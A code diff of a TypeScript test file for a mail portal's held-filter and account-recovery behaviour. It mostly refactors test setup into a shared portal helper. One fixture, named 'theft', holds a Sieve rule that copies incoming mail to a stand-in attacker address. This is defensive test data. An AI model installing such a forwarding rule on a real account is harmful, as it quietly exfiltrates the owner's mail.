@@ -1,14 +1,14 @@
 // Filters that wait: switched off by every recovery, told with where they lead, kept or removed by their owner alone.
 import assert from 'node:assert/strict'
 import { randomUUID } from 'node:crypto'
-import { after, before, beforeEach, describe, it } from 'node:test'
+import { describe, it } from 'node:test'
 import { runCommand } from '#server/cli/portal.ts'
 import { readWithIncluded } from '#server/mail/filters/hold-back.ts'
 import { insertHeldFilter } from '#server/mail/filters/store.ts'
 import { type FilterDoor, PlatformError } from '#server/mail/mail-platform/mail-platform.ts'
-import { createMemoryPlatform, type MemoryPlatform } from '#server/mail/mail-platform/memory.ts'
+import { createMemoryPlatform } from '#server/mail/mail-platform/memory.ts'
 import { arrive, signIn } from '#test/support/people.ts'
-import { eventually, startTestPortal, type TestPortal } from '#test/support/portal.ts'
+import { eventually, startTestPortal } from '#test/support/portal.ts'
 import {
   begin,
   type Equipped,
@@ -20,6 +20,7 @@ import {
   undoLinkOf,
 } from '#test/support/recovery.ts'
 import { enrolStaff, enterStaff } from '#test/support/staff.ts'
+import { usePortal } from '#test/support/use-portal.ts'
 import type { Answer, Visitor } from '#test/support/visitor.ts'
 
 const page = '/account/filters'
@@ -30,14 +31,12 @@ const theft = {
   text: 'require "copy";\r\n\n  redirect :copy "thief@elsewhere.example";# ☂\n',
 }
 
-let platform: MemoryPlatform
-let portal: TestPortal
-before(async () => {
-  platform = createMemoryPlatform()
-  portal = await startTestPortal({ ports: { platform }, env: { LIMIT_SMS_WAIT_SECONDS: '0.01' } })
+const platform = createMemoryPlatform()
+const portal = usePortal({
+  freshLimits: true,
+  ports: { platform },
+  env: { LIMIT_SMS_WAIT_SECONDS: '0.01' },
 })
-after(() => portal.stop())
-beforeEach(() => forgetLimits(portal))
 
 const settled = (mailbox: string) =>
   eventually(() =>
